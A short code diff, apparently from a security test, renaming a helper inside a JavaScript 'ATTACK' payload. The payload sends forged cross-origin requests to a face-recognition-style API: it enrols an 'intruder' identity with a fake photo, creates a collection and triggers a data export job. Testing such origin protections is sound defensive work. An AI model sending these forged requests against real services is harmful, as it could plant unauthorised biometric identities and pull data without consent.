@@ -26,13 +26,13 @@ ATTACK = """async ({target, photo}) => {
     return `${answer.status} ${arcid_code ?? code}`;
   };
   const file = () => new File([bytes], "photo.jpg", {type: "image/jpeg"});
-  const enrol = () => form({identity_id: "intruder", photos: file()});
+  const enroll = () => form({identity_id: "intruder", photos: file()});
   const job = () => form({kind: "export", collection: "default"});
   const collection = '{"name": "intruder"}';
   const headers = {"Content-Type": "application/json"};
   const tries = {
-    simple: () => fetch(target + "enroll", {method: "POST", body: enrol(), mode: "no-cors"}),
-    readable: () => fetch(target + "enroll", {method: "POST", body: enrol()}),
+    simple: () => fetch(target + "enroll", {method: "POST", body: enroll(), mode: "no-cors"}),
+    readable: () => fetch(target + "enroll", {method: "POST", body: enroll()}),
     job: () => fetch(target + "jobs", {method: "POST", body: job(), mode: "no-cors"}),
     text: () => fetch(target + "collections", {method: "POST", body: collection, mode: "no-cors"}),
     json: () => fetch(target + "collections", {method: "POST", body: collection, headers}),
